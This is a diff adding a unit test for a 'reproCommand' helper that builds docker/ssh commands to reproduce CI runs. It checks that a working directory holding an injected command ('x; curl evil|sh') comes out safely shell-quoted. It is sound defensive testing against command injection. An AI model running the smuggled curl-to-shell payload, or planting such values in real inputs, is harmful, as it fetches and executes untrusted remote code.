@@ -79,4 +79,9 @@ describe('reproCommand', () => {
     expect(reproCommand({ ...recipe, image: null, imageId: null })).toMatch(/^ssh -p 2222 ci@10\.0\.0\.5 /)
     expect(reproCommand({ ...recipe, address: null })).toMatch(/^docker run /)
   })
+  it('quotes what comes from the workflow, so pasting it runs nothing else', () => {
+    expect(reproCommand({ ...recipe, imageId: null, workingDirectory: "x; curl evil|sh 'q'" })).toBe(
+      `docker -H ssh://ci@10.0.0.5:2222 run --rm -it -v "$PWD:/workspace" -w '/workspace/x; curl evil|sh '\\''q'\\''' node:20 bash`,
+    )
+  })
 })
